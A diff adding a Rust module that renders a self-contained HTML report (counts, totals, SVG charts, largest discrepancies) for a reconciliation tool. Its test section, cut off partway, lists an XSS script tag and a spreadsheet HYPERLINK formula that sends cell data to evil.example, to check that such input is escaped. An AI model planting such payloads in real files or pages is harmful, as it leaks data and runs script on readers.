@@ -1,0 +1,1075 @@
+//! `report.html`: one self-contained page per run folder for the morning
+//! readers (the on-call engineer and the finance analyst).
+//!
+//! The page holds no script, loads nothing (a Content-Security-Policy of
+//! `default-src 'none'` says so to the browser), and draws its charts as
+//! inline SVG, so it can be opened from disk or attached to an email.
+//!
+//! Its numbers come from the folder it describes: `summary.json` (counts,
+//! window, status, per-currency totals as exact minor units), the CSVs
+//! beside it (the largest discrepancies, backfill outcomes) and, for the
+//! charts, the job's earlier runs in the state store. Money is rendered from
+//! minor units with [`format_minor`], never through floating point; every
+//! piece of text is HTML-escaped and, as in the CSVs, neutralised against
+//! spreadsheet formulas.
+//!
+//! [`write_for_run`] writes the page into a run's staging folder (so it
+//! lands with the other files, whole); `recon report` renders it again
+//! with [`render_folder`].
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fmt::Write as _;
+use std::path::Path;
+
+use anyhow::{Context, Result};
+use jiff::Timestamp;
+use recon_core::{format_minor, Currency, Money};
+use serde_json::Value as Json;
+
+use super::{neutralise, ReportDir};
+use crate::state::{RunRow, RunTotals, StateStore};
+
+/// The page's file name in a run folder.
+pub const FILE: &str = "report.html";
+
+/// How many earlier runs the charts show by default.
+pub const DEFAULT_RUNS: usize = 30;
+
+/// How many of the largest discrepancies are listed per currency.
+pub const TOP_PER_CURRENCY: usize = 10;
+
+/// Discrepancy classes as counted in summary.json, in display order.
+const CLASSES: [&str; 4] = ["gaps", "orphans", "mismatches", "duplicates"];
+
+/// One run as the charts show it.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct ChartRun {
+    /// The run id.
+    pub run_id: String,
+    /// When it started, RFC 3339.
+    pub started_at: String,
+    /// Its status (clean, discrepancies, failed…).
+    pub status: String,
+    /// Gaps, orphans, mismatches, duplicates; `None` when not recorded.
+    pub classes: [Option<u64>; 4],
+    /// Target total minus source total per currency, minor units.
+    pub deltas: BTreeMap<Currency, i128>,
+}
+
+/// One of the largest discrepancies.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct TopRow {
+    /// gap, orphan or mismatch.
+    pub class: &'static str,
+    /// The ID, as the CSV holds it.
+    pub key: String,
+    /// Its amount (a mismatch: target minus source).
+    pub minor: i128,
+    /// The amount's currency.
+    pub currency: Currency,
+    /// new or persisting (empty for ad-hoc diffs).
+    pub state: String,
+    /// First seen, RFC 3339 (empty when unknown).
+    pub first_seen: String,
+}
+
+/// What backfill.csv and plan.jsonl say.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Backfill {
+    /// Outcome → items (created, updated, unchanged, failed, skipped).
+    pub outcomes: BTreeMap<String, u64>,
+    /// The first refused items: (ID, error).
+    pub failures: Vec<(String, String)>,
+    /// Items planned in plan.jsonl (a dry run, or a run stopped by a limit).
+    pub planned: Option<u64>,
+}
+
+/// Everything the page shows.
+#[derive(Clone, Debug, Default)]
+pub struct Page {
+    /// The folder's summary.json.
+    pub summary: Json,
+    /// The largest discrepancies, per currency, largest first.
+    pub top: Vec<TopRow>,
+    /// Backfill outcomes.
+    pub backfill: Backfill,
+    /// The job's runs up to this one, oldest first (this one last).
+    pub history: Vec<ChartRun>,
+    /// Files beside the page: (link, name).
+    pub files: Vec<(String, String)>,
+}
+
+/// Escapes text for HTML element content and quoted attribute values.
+pub fn escape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Text from a report or a source system: formula-safe as in the CSVs
+/// (copied into a spreadsheet it stays text), then HTML-escaped.
+fn text(s: &str) -> String {
+    escape(&neutralise(s))
+}
+
+fn money(minor: i128, currency: Currency) -> String {
+    format!("{} {}", format_minor(minor, currency), currency.code())
+}
+
+fn signed_money(minor: i128, currency: Currency) -> String {
+    let sign = if minor > 0 { "+" } else { "" };
+    format!("{sign}{}", money(minor, currency))
+}
+
+/// Age between two RFC 3339 instants: `3d 4h`, `5h`, `12m`.
+fn age(from: &str, to: &str) -> String {
+    let (Ok(a), Ok(b)) = (from.parse::<Timestamp>(), to.parse::<Timestamp>()) else {
+        return String::new();
+    };
+    let secs = b.as_second().saturating_sub(a.as_second()).max(0);
+    let (d, h, m) = (secs / 86_400, secs % 86_400 / 3600, secs % 3600 / 60);
+    if d > 0 {
+        format!("{d}d {h}h")
+    } else if h > 0 {
+        format!("{h}h")
+    } else {
+        format!("{m}m")
+    }
+}
+
+fn u64_of(v: &Json) -> Option<u64> {
+    v.as_u64()
+        .or_else(|| v.as_str().and_then(|s| s.parse().ok()))
+}
+
+/// The totals of summary.json (`totals.source` / `totals.target`, exact
+/// `total_minor` text) as [`RunTotals`] per currency.
+pub fn summary_totals(summary: &Json) -> Result<Vec<RunTotals>> {
+    let mut by: BTreeMap<Option<Currency>, RunTotals> = BTreeMap::new();
+    for (side, is_source) in [("source", true), ("target", false)] {
+        let Some(list) = summary["totals"][side].as_array() else {
+            continue;
+        };
+        for t in list {
+            let currency = match t["currency"].as_str() {
+                Some(c) => Some(
+                    Currency::parse(c)
+                        .with_context(|| format!("summary.json: currency `{c}` of the {side}"))?,
+                ),
+                None => None,
+            };
+            let records = u64_of(&t["records"]).unwrap_or(0);
+            let minor: i128 = match t["total_minor"].as_str() {
+                Some(m) => m.parse().with_context(|| {
+                    format!("summary.json: {side} total_minor `{m}` is not a whole number")
+                })?,
+                None => 0,
+            };
+            let e = by.entry(currency).or_insert(RunTotals {
+                currency,
+                source_records: 0,
+                source_minor: 0,
+                target_records: 0,
+                target_minor: 0,
+            });
+            if is_source {
+                e.source_records = records;
+                e.source_minor = minor;
+            } else {
+                e.target_records = records;
+                e.target_minor = minor;
+            }
+        }
+    }
+    Ok(by.into_values().collect())
+}
+
+/// A run as the chart shows it, from its counts and totals.
+pub fn chart_run(
+    run_id: &str,
+    started_at: &str,
+    status: &str,
+    counts: Option<&Json>,
+    totals: &[RunTotals],
+) -> ChartRun {
+    let classes = CLASSES.map(|c| counts.and_then(|j| u64_of(&j[c])));
+    let deltas = totals
+        .iter()
+        .filter_map(|t| Some((t.currency?, t.target_minor - t.source_minor)))
+        .collect();
+    ChartRun {
+        run_id: run_id.to_string(),
+        started_at: started_at.to_string(),
+        status: status.to_string(),
+        classes,
+        deltas,
+    }
+}
+
+/// The status a summary's exit status stands for.
+fn status_of(summary: &Json) -> &'static str {
+    match summary["exit_status"].as_u64() {
+        Some(0) => "clean",
+        Some(1) => "discrepancies",
+        Some(2) => "trouble",
+        _ => "unknown",
+    }
+}
+
+/// Keeps the `n` largest amounts per currency while rows stream past.
+struct Largest {
+    n: usize,
+    by: BTreeMap<Currency, Vec<TopRow>>,
+}
+
+impl Largest {
+    fn push(&mut self, row: TopRow) {
+        let list = self.by.entry(row.currency).or_default();
+        list.push(row);
+        if list.len() >= self.n * 4 + 16 {
+            Self::trim(list, self.n);
+        }
+    }
+
+    fn trim(list: &mut Vec<TopRow>, n: usize) {
+        list.sort_by(|a, b| {
+            b.minor
+                .unsigned_abs()
+                .cmp(&a.minor.unsigned_abs())
+                .then_with(|| a.key.cmp(&b.key))
+        });
+        list.truncate(n);
+    }
+
+    fn finish(self) -> Vec<TopRow> {
+        let n = self.n;
+        self.by
+            .into_values()
+            .flat_map(|mut l| {
+                Self::trim(&mut l, n);
+                l
+            })
+            .collect()
+    }
+}
+
+/// Reads a report CSV's rows, calling `each` with the header and a row.
+fn each_row(path: &Path, mut each: impl FnMut(&csv::StringRecord) -> Result<()>) -> Result<()> {
+    let mut r =
+        csv::Reader::from_path(path).with_context(|| format!("cannot read {}", path.display()))?;
+    let mut row = csv::StringRecord::new();
+    while r
+        .read_record(&mut row)
+        .with_context(|| format!("cannot read {}", path.display()))?
+    {
+        each(&row)?;
+    }
+    Ok(())
+}
+
+fn header(path: &Path) -> Result<Vec<String>> {
+    let mut r =
+        csv::Reader::from_path(path).with_context(|| format!("cannot read {}", path.display()))?;
+    Ok(r.headers()?.iter().map(str::to_string).collect())
+}
+
+/// The largest gaps, orphans and mismatches of a folder's CSVs, by amount
+/// per currency. `money_field` is the job's money field (the amount
+/// column of gaps.csv and orphans.csv).
+pub fn largest(folder: &Path, money_field: Option<&str>, n: usize) -> Result<Vec<TopRow>> {
+    let mut top = Largest {
+        n,
+        by: BTreeMap::new(),
+    };
+    let col = |h: &[String], name: &str| h.iter().position(|c| c == name);
+    if let Some(field) = money_field {
+        for (file, class) in [("gaps.csv", "gap"), ("orphans.csv", "orphan")] {
+            let path = folder.join(file);
+            if !path.is_file() {
+                continue;
+            }
+            let h = header(&path)?;
+            let (Some(key), Some(amount), Some(cur)) = (
+                col(&h, "external_id"),
+                col(&h, field),
+                h.iter().rposition(|c| c == "currency"),
+            ) else {
+                continue;
+            };
+            let (state, first) = (col(&h, "state"), col(&h, "first_seen"));
+            each_row(&path, |row| {
+                let Ok(currency) = Currency::parse(&row[cur]) else {
+                    return Ok(());
+                };
+                let Ok(m) = Money::parse_major(&row[amount], currency) else {
+                    return Ok(());
+                };
+                top.push(TopRow {
+                    class,
+                    key: row[key].to_string(),
+                    minor: i128::from(m.minor),
+                    currency,
+                    state: state.map(|i| row[i].to_string()).unwrap_or_default(),
+                    first_seen: first.map(|i| row[i].to_string()).unwrap_or_default(),
+                });
+                Ok(())
+            })?;
+        }
+    }
+    let path = folder.join("mismatches.csv");
+    if path.is_file() {
+        let h = header(&path)?;
+        if let (Some(key), Some(field), Some(cur), Some(diff)) = (
+            col(&h, "external_id"),
+            col(&h, "field"),
+            col(&h, "currency"),
+            col(&h, "difference"),
+        ) {
+            let (state, first) = (col(&h, "state"), col(&h, "first_seen"));
+            each_row(&path, |row| {
+                if money_field.is_some_and(|f| f != &row[field]) {
+                    return Ok(());
+                }
+                let Ok(currency) = Currency::parse(&row[cur]) else {
+                    return Ok(());
+                };
+                let Ok(m) = Money::parse_major(&row[diff], currency) else {
+                    return Ok(());
+                };
+                top.push(TopRow {
+                    class: "mismatch",
+                    key: row[key].to_string(),
+                    minor: i128::from(m.minor),
+                    currency,
+                    state: state.map(|i| row[i].to_string()).unwrap_or_default(),
+                    first_seen: first.map(|i| row[i].to_string()).unwrap_or_default(),
+                });
+                Ok(())
+            })?;
+        }
+    }
+    Ok(top.finish())
+}
+
+/// Backfill outcomes from backfill.csv, and plan.jsonl's size.
+pub fn backfill(folder: &Path) -> Result<Backfill> {
+    let mut out = Backfill::default();
+    let path = folder.join("backfill.csv");
+    if path.is_file() {
+        let h = header(&path)?;
+        let col = |name: &str| h.iter().position(|c| c == name);
+        if let (Some(key), Some(outcome), Some(error)) =
+            (col("external_id"), col("outcome"), col("error"))
+        {
+            each_row(&path, |row| {
+                *out.outcomes.entry(row[outcome].to_string()).or_default() += 1;
+                if &row[outcome] == "failed" && out.failures.len() < 20 {
+                    out.failures
+                        .push((row[key].to_string(), row[error].to_string()));
+                }
+                Ok(())
+            })?;
+        }
+    }
+    let plan = folder.join(crate::plan::PLAN_FILE);
+    if plan.is_file() {
+        use std::io::BufRead;
+        let f = std::fs::File::open(&plan)
+            .with_context(|| format!("cannot read {}", plan.display()))?;
+        let mut lines = 0u64;
+        for line in std::io::BufReader::new(f).lines() {
+            if !line?.trim().is_empty() {
+                lines += 1;
+            }
+        }
+        out.planned = Some(lines);
+    }
+    Ok(out)
+}
+
+/// The report files in a folder (CSV, JSON Lines, summary.json), sorted.
+fn files(folder: &Path) -> Result<Vec<String>> {
+    let mut names: Vec<String> = std::fs::read_dir(folder)
+        .with_context(|| format!("cannot read the report folder {}", folder.display()))?
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.ends_with(".csv") || n.ends_with(".jsonl") || n == "summary.json")
+        .collect();
+    names.sort();
+    Ok(names)
+}
+
+/// A link to a file: percent-encodes what a URL path may not hold.
+fn href(prefix: &str, name: &str) -> String {
+    let mut out = String::from(prefix);
+    for b in name.bytes() {
+        match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'/' => {
+                out.push(b as char)
+            }
+            b => {
+                let _ = write!(out, "%{b:02X}");
+            }
+        }
+    }
+    out
+}
+
+/// The job's runs before `this` (by start), newest `limit - 1` of them
+/// that reconciled (have class counts), oldest first, then `this`.
+pub async fn chart_history(
+    state: &StateStore,
+    job: &str,
+    this: ChartRun,
+    limit: usize,
+) -> Result<Vec<ChartRun>> {
+    let earlier: Vec<RunRow> = state
+        .recent_runs(Some(job), usize::MAX)
+        .await?
+        .into_iter()
+        .filter(|r| r.id != this.run_id)
+        .filter(|r| {
+            this.started_at
+                .parse::<Timestamp>()
+                .map_or(true, |t| r.started_at <= t)
+        })
+        .filter(|r| r.counts.as_ref().is_some_and(|c| c.get("gaps").is_some()))
+        .take(limit.saturating_sub(1))
+        .collect();
+    let ids: Vec<String> = earlier.iter().map(|r| r.id.clone()).collect();
+    let totals = state.run_totals(&ids).await?;
+    let mut out: Vec<ChartRun> = earlier
+        .iter()
+        .rev()
+        .map(|r| {
+            chart_run(
+                &r.id,
+                &recon_core::format_timestamp(r.started_at),
+                r.status.as_str(),
+                r.counts.as_ref(),
+                totals.get(&r.id).map(Vec::as_slice).unwrap_or(&[]),
+            )
+        })
+        .collect();
+    if limit > 0 {
+        out.push(this);
+    }
+    Ok(out)
+}
+
+/// Builds the page of the report folder `folder` (committed or staged),
+/// with charts from the store. Links point to the files by `link_prefix`
+/// (`""` when the page sits in the folder). Records the run's totals in
+/// the store when `record` is set.
+pub async fn render_folder(
+    folder: &Path,
+    state: &StateStore,
+    job: &str,
+    money_field: Option<&str>,
+    runs: usize,
+    link_prefix: &str,
+    record: bool,
+) -> Result<String> {
+    let path = folder.join("summary.json");
+    let summary: Json = serde_json::from_slice(
+        &std::fs::read(&path).with_context(|| format!("cannot read {}", path.display()))?,
+    )
+    .with_context(|| format!("{} is not JSON", path.display()))?;
+    let totals = summary_totals(&summary)?;
+    let run_id = summary["run_id"].as_str().unwrap_or("").to_string();
+    if record && !run_id.is_empty() {
+        state.record_run_totals(&run_id, &totals).await?;
+    }
+    let this = chart_run(
+        &run_id,
+        summary["timings"]["started_at"].as_str().unwrap_or(""),
+        status_of(&summary),
+        Some(&summary),
+        &totals,
+    );
+    let history = chart_history(state, job, this, runs).await?;
+    let page = Page {
+        top: largest(folder, money_field, TOP_PER_CURRENCY)?,
+        backfill: backfill(folder)?,
+        files: files(folder)?
+            .into_iter()
+            .map(|n| (href(link_prefix, &n), n))
+            .collect(),
+        history,
+        summary,
+    };
+    Ok(render(&page))
+}
+
+/// Writes report.html into a run's staging folder: the run's totals are
+/// recorded in the store and the charts drawn from the job's last
+/// [`DEFAULT_RUNS`] runs. Call it after the other files are staged.
+pub async fn write_for_run(
+    dir: &mut ReportDir,
+    state: &StateStore,
+    job: &str,
+    money_field: Option<&str>,
+) -> Result<()> {
+    let folder = dir.staged("");
+    let html = render_folder(&folder, state, job, money_field, DEFAULT_RUNS, "", true).await?;
+    dir.write_all(FILE, html.as_bytes())
+}
+
+const STYLE: &str = "\
+body{font:14px/1.45 system-ui,-apple-system,'Segoe UI',Roboto,sans-serif;margin:24px;color:#1d2430;max-width:1100px}\
+h1{font-size:22px;margin:0 0 4px}h2{font-size:17px;margin:28px 0 8px;border-bottom:1px solid #dde2ea;padding-bottom:4px}\
+table{border-collapse:collapse;margin:4px 0}th,td{padding:4px 10px;border-bottom:1px solid #eef1f5;text-align:left}\
+td.n,th.n{text-align:right;font-variant-numeric:tabular-nums}\
+.badge{display:inline-block;padding:2px 10px;border-radius:10px;font-weight:600;color:#fff}\
+.clean{background:#2e7d32}.discrepancies{background:#b26a00}.trouble,.failed,.crashed{background:#c62828}.unknown,.running{background:#607d8b}\
+.meta{color:#526070}.charts{display:flex;flex-wrap:wrap;gap:16px}figure{margin:0}figcaption{font-weight:600;margin-bottom:2px}\
+svg text{font:11px system-ui,sans-serif;fill:#526070}.neg{color:#c62828}.note{background:#fff8e1;padding:6px 10px;margin:4px 0}\
+@media print{body{margin:0}}";
+
+/// Renders the page.
+pub fn render(page: &Page) -> String {
+    let s = &page.summary;
+    let job = s["job"].as_str().unwrap_or("");
+    let run_id = s["run_id"].as_str().unwrap_or("");
+    let status = status_of(s);
+    let window = match (s["window"]["start"].as_str(), s["window"]["end"].as_str()) {
+        (Some(a), Some(b)) => format!("{a} .. {b}"),
+        _ => "whole files (no window)".into(),
+    };
+    let mut h = String::with_capacity(32 * 1024);
+    h.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
+    // Nothing may load or run: the page works offline and as an attachment.
+    h.push_str(
+        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\">\n",
+    );
+    h.push_str("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n");
+    let _ = writeln!(
+        h,
+        "<title>recon {} {}: {}</title>\n<style>{STYLE}</style>\n</head>\n<body>",
+        text(job),
+        escape(&window),
+        status
+    );
+    let _ = writeln!(
+        h,
+        "<header><h1>recon: {}</h1>\n<p id=\"status\"><span class=\"badge {status}\" data-status=\"{status}\">{status}</span>{}</p>",
+        text(job),
+        if s["dry_run"].as_bool() == Some(true) {
+            " <strong>dry run</strong>: nothing was written"
+        } else {
+            ""
+        }
+    );
+    let _ = writeln!(
+        h,
+        "<table class=\"meta\" id=\"run\"><tr><th>window</th><td id=\"window\">{}</td></tr>\
+         <tr><th>run</th><td>{}</td></tr><tr><th>source</th><td>{}</td></tr><tr><th>target</th><td>{}</td></tr>\
+         <tr><th>started</th><td>{}</td></tr><tr><th>took</th><td>{}</td></tr></table></header>",
+        escape(&window),
+        text(run_id),
+        text(s["source"].as_str().unwrap_or("")),
+        text(s["target"].as_str().unwrap_or("")),
+        text(s["timings"]["started_at"].as_str().unwrap_or("")),
+        s["timings"]["total_ms"]
+            .as_u64()
+            .map(|ms| format!("{}.{:03} s", ms / 1000, ms % 1000))
+            .unwrap_or_default(),
+    );
+    for note in s["notes"].as_array().into_iter().flatten() {
+        if let Some(n) = note.as_str() {
+            let _ = writeln!(h, "<p class=\"note\">{}</p>", text(n));
+        }
+    }
+
+    counts_section(&mut h, s);
+    totals_section(&mut h, s);
+    charts_section(&mut h, &page.history);
+    top_section(&mut h, &page.top, s["timings"]["started_at"].as_str());
+    backfill_section(&mut h, &page.backfill, s);
+
+    h.push_str("<h2>Files</h2>\n<ul id=\"files\">\n");
+    for (link, name) in &page.files {
+        let _ = writeln!(
+            h,
+            "<li><a href=\"{}\">{}</a></li>",
+            escape(link),
+            escape(name)
+        );
+    }
+    h.push_str("</ul>\n");
+    let _ = writeln!(
+        h,
+        "<footer class=\"meta\"><p>recon {}. Amounts are exact (from minor units); text that a spreadsheet \
+         would run as a formula starts with <code>'</code>, as in the CSV files.</p></footer>\n</body>\n</html>",
+        escape(s["recon_version"].as_str().unwrap_or(env!("CARGO_PKG_VERSION")))
+    );
+    h
+}
+
+fn counts_section(h: &mut String, s: &Json) {
+    h.push_str(
+        "<h2>Counts</h2>\n<table id=\"counts\"><tr><th>class</th><th class=\"n\">IDs</th></tr>\n",
+    );
+    for (key, label) in [
+        ("source_records", "source records"),
+        ("target_records", "target records"),
+        ("matched", "matched"),
+        ("gaps", "gaps (in the source, missing in the target)"),
+        ("orphans", "orphans (in the target only)"),
+        ("mismatches", "mismatches"),
+        ("duplicates", "duplicates"),
+        ("pending", "pending (too young to judge)"),
+        ("unplaced", "unplaced (no time to place them)"),
+        ("resolved", "resolved since the last run"),
+        ("backfilled", "backfilled"),
+        ("backfill_failed", "backfill failed"),
+    ] {
+        if let Some(n) = u64_of(&s[key]) {
+            let _ = writeln!(
+                h,
+                "<tr><td>{label}</td><td class=\"n\" data-count=\"{key}\">{n}</td></tr>"
+            );
+        }
+    }
+    h.push_str("</table>\n");
+}
+
+fn totals_section(h: &mut String, s: &Json) {
+    h.push_str("<h2>Totals per currency</h2>\n");
+    let totals = match summary_totals(s) {
+        Ok(t) => t,
+        Err(e) => {
+            let _ = writeln!(h, "<p class=\"note\">{}</p>", text(&format!("{e:#}")));
+            return;
+        }
+    };
+    h.push_str(
+        "<table id=\"totals\"><tr><th>currency</th><th class=\"n\">source records</th><th class=\"n\">source total</th>\
+         <th class=\"n\">target records</th><th class=\"n\">target total</th><th class=\"n\">records delta</th>\
+         <th class=\"n\">total delta</th></tr>\n",
+    );
+    for t in &totals {
+        let rd = i128::from(t.target_records) - i128::from(t.source_records);
+        let (code, st, tt, dt) = match t.currency {
+            Some(c) => (
+                c.code().to_string(),
+                money(t.source_minor, c),
+                money(t.target_minor, c),
+                signed_money(t.target_minor - t.source_minor, c),
+            ),
+            None => (
+                "(no amount)".into(),
+                String::new(),
+                String::new(),
+                String::new(),
+            ),
+        };
+        let neg = if t.target_minor < t.source_minor {
+            " neg"
+        } else {
+            ""
+        };
+        let _ = writeln!(
+            h,
+            "<tr data-currency=\"{code}\"><td>{code}</td><td class=\"n\">{}</td><td class=\"n\" data-total=\"source\">{st}</td>\
+             <td class=\"n\">{}</td><td class=\"n\" data-total=\"target\">{tt}</td><td class=\"n\">{rd:+}</td>\
+             <td class=\"n{neg}\" data-total=\"delta\">{dt}</td></tr>",
+            t.source_records, t.target_records,
+            code = escape(&code),
+        );
+    }
+    h.push_str("</table>\n");
+}
+
+const CHART_W: u128 = 480;
+const CHART_H: u128 = 120;
+const PAD_L: u128 = 8;
+const PAD_T: u128 = 14;
+
+/// `v * span / max` without overflow or floating point.
+fn scale(v: u128, max: u128, span: u128) -> u128 {
+    if max == 0 {
+        0
+    } else if max <= u128::MAX / span {
+        v * span / max
+    } else {
+        v / (max / span)
+    }
+}
+
+/// A bar chart of one series: one bar per run, above (and, for money,
+/// below) a zero line. `label` renders a value.
+fn bar_chart(
+    h: &mut String,
+    id: &str,
+    caption: &str,
+    runs: &[ChartRun],
+    values: &[Option<i128>],
+    label: &dyn Fn(i128) -> String,
+) {
+    let max_pos = values
+        .iter()
+        .flatten()
+        .map(|v| (*v).max(0))
+        .max()
+        .unwrap_or(0) as u128;
+    let max_neg = values
+        .iter()
+        .flatten()
+        .map(|v| v.min(&0).unsigned_abs())
+        .max()
+        .unwrap_or(0);
+    let range = max_pos + max_neg;
+    let zero_y = PAD_T + scale(max_pos, range, CHART_H);
+    let n = values.len().max(1) as u128;
+    let slot = CHART_W / n.max(1);
+    let bar = (slot * 7 / 10).max(1);
+    let _ = writeln!(
+        h,
+        "<figure class=\"chart\" data-series=\"{id}\"><figcaption>{}</figcaption>\
+         <svg xmlns=\"http://www.w3.org/2000/svg\" role=\"img\" width=\"{w}\" height=\"{ht}\" viewBox=\"0 0 {w} {ht}\">",
+        escape(caption),
+        id = escape(id),
+        w = PAD_L * 2 + CHART_W + 90,
+        ht = PAD_T + CHART_H + 30,
+    );
+    let _ = writeln!(
+        h,
+        "<line x1=\"{PAD_L}\" y1=\"{zero_y}\" x2=\"{}\" y2=\"{zero_y}\" stroke=\"#9aa5b1\"/>",
+        PAD_L + CHART_W
+    );
+    for (i, (run, v)) in runs.iter().zip(values).enumerate() {
+        let x = PAD_L + i as u128 * slot + (slot - bar) / 2;
+        let Some(v) = *v else {
+            continue;
+        };
+        let len = scale(v.unsigned_abs(), range, CHART_H).max(u128::from(v != 0));
+        let (y, color) = if v >= 0 {
+            (zero_y - len, "#3f6fb5")
+        } else {
+            (zero_y, "#c62828")
+        };
+        let current = if i + 1 == runs.len() {
+            " stroke=\"#1d2430\" stroke-width=\"1.5\""
+        } else {
+            ""
+        };
+        let _ = writeln!(
+            h,
+            "<rect x=\"{x}\" y=\"{y}\" width=\"{bar}\" height=\"{len}\" fill=\"{color}\"{current} data-run=\"{}\" data-value=\"{v}\">\
+             <title>{}: {} ({})</title></rect>",
+            escape(&run.run_id),
+            escape(&run.started_at),
+            escape(&label(v)),
+            escape(&run.status),
+        );
+    }
+    let right = PAD_L + CHART_W + 6;
+    if max_pos > 0 {
+        let _ = writeln!(
+            h,
+            "<text x=\"{right}\" y=\"{}\">{}</text>",
+            PAD_T + 4,
+            escape(&label(max_pos as i128))
+        );
+    }
+    let _ = writeln!(h, "<text x=\"{right}\" y=\"{}\">0</text>", zero_y + 4);
+    if max_neg > 0 {
+        let _ = writeln!(
+            h,
+            "<text x=\"{right}\" y=\"{}\">{}</text>",
+            PAD_T + CHART_H,
+            escape(&label(-(max_neg as i128)))
+        );
+    }
+    if let (Some(first), Some(last)) = (runs.first(), runs.last()) {
+        let day = |t: &str| t.get(..10).unwrap_or(t).to_string();
+        let _ = writeln!(
+            h,
+            "<text x=\"{PAD_L}\" y=\"{y}\">{}</text><text x=\"{}\" y=\"{y}\" text-anchor=\"end\">{}</text>",
+            escape(&day(&first.started_at)),
+            PAD_L + CHART_W,
+            escape(&day(&last.started_at)),
+            y = PAD_T + CHART_H + 20,
+        );
+    }
+    h.push_str("</svg></figure>\n");
+}
+
+fn charts_section(h: &mut String, runs: &[ChartRun]) {
+    let _ = writeln!(
+        h,
+        "<h2>The last {} run{}</h2>\n<div class=\"charts\" id=\"charts\">",
+        runs.len(),
+        if runs.len() == 1 { "" } else { "s" }
+    );
+    for (i, class) in CLASSES.iter().enumerate() {
+        let values: Vec<Option<i128>> = runs.iter().map(|r| r.classes[i].map(i128::from)).collect();
+        bar_chart(h, class, class, runs, &values, &|v| v.to_string());
+    }
+    let currencies: BTreeSet<Currency> =
+        runs.iter().flat_map(|r| r.deltas.keys().copied()).collect();
+    for c in currencies {
+        let values: Vec<Option<i128>> = runs.iter().map(|r| r.deltas.get(&c).copied()).collect();
+        bar_chart(
+            h,
+            &format!("delta-{}", c.code()),
+            &format!("money delta {} (target minus source)", c.code()),
+            runs,
+            &values,
+            &|v| signed_money(v, c),
+        );
+    }
+    h.push_str("</div>\n");
+}
+
+fn top_section(h: &mut String, top: &[TopRow], started: Option<&str>) {
+    h.push_str("<h2>Largest discrepancies</h2>\n");
+    if top.is_empty() {
+        h.push_str("<p id=\"top-none\">No gap, orphan or money mismatch with an amount.</p>\n");
+        return;
+    }
+    let _ = writeln!(
+        h,
+        "<p class=\"meta\">The {TOP_PER_CURRENCY} largest amounts per currency (a mismatch: target minus source).</p>"
+    );
+    h.push_str(
+        "<table id=\"top\"><tr><th>class</th><th>external ID</th><th class=\"n\">amount</th><th>state</th>\
+         <th>first seen</th><th class=\"n\">age</th></tr>\n",
+    );
+    for r in top {
+        let _ = writeln!(
+            h,
+            "<tr data-class=\"{}\"><td>{}</td><td>{}</td><td class=\"n\">{}</td><td>{}</td><td>{}</td><td class=\"n\">{}</td></tr>",
+            r.class,
+            r.class,
+            text(&r.key),
+            escape(&money(r.minor, r.currency)),
+            text(&r.state),
+            text(&r.first_seen),
+            escape(&started.map(|t| age(&r.first_seen, t)).unwrap_or_default()),
+        );
+    }
+    h.push_str("</table>\n");
+}
+
+fn backfill_section(h: &mut String, b: &Backfill, s: &Json) {
+    h.push_str("<h2>Backfill</h2>\n<div id=\"backfill\">\n");
+    if let Some(n) = b.planned {
+        let _ = writeln!(
+            h,
+            "<p>{n} item{} planned in plan.jsonl{}.</p>",
+            if n == 1 { "" } else { "s" },
+            if s["dry_run"].as_bool() == Some(true) {
+                " (dry run: review it, then <code>recon apply --plan</code>)"
+            } else {
+                ""
+            }
+        );
+    }
+    if b.outcomes.is_empty() {
+        if b.planned.is_none() {
+            h.push_str("<p>Nothing was written.</p>\n");
+        }
+    } else {
+        h.push_str("<table><tr><th>outcome</th><th class=\"n\">items</th></tr>\n");
+        for (outcome, n) in &b.outcomes {
+            let _ = writeln!(
+                h,
+                "<tr><td>{}</td><td class=\"n\" data-outcome=\"{}\">{n}</td></tr>",
+                text(outcome),
+                escape(outcome)
+            );
+        }
+        h.push_str("</table>\n");
+    }
+    if !b.failures.is_empty() {
+        h.push_str("<table><tr><th>refused ID</th><th>error</th></tr>\n");
+        for (k, e) in &b.failures {
+            let _ = writeln!(h, "<tr><td>{}</td><td>{}</td></tr>", text(k), text(e));
+        }
+        h.push_str("</table>\n");
+    }
+    h.push_str("</div>\n");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn usd() -> Currency {
+        Currency::parse("USD").unwrap()
+    }
+
+    fn summary() -> Json {
+        json!({
+            "job": "charges",
+            "run_id": "charges-1",
+            "source": "file <b>x</b>",
+            "target": "sql",
+            "window": {"start": "2026-11-28T05:00:00Z", "end": "2026-11-29T05:00:00Z"},
+            "gaps": 2, "orphans": 1, "mismatches": 0, "duplicates": 0, "matched": 7,
+            "exit_status": 1,
+            "notes": [],
+            "timings": {"started_at": "2026-11-30T06:00:00Z", "total_ms": 1234},
+            "totals": {
+                "source": [{"currency": "USD", "records": 9, "total": "x", "total_minor": "9007199254740993"}],
+                "target": [{"currency": "USD", "records": 8, "total": "x", "total_minor": "9007199254740000"}]
+            }
+        })
+    }
+
+    fn page(top: Vec<TopRow>) -> Page {
+        let s = summary();
+        let totals = summary_totals(&s).unwrap();
+        Page {
+            history: vec![chart_run(
+                "charges-1",
+                "2026-11-30T06:00:00Z",
+                "discrepancies",
+                Some(&s),
+                &totals,
+            )],
+            summary: s,
+            top,
+            ..Page::default()
+        }
+    }
+
+    #[test]
+    fn text_from_sources_renders_inert() {
+        let evil = [
+            "<script>alert(1)</script>",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        ];
+        let top = evil
+            .iter()
+            .map(|k| TopRow {
+                class: "gap",
+                key: k.to_string(),
+                minor: 100,
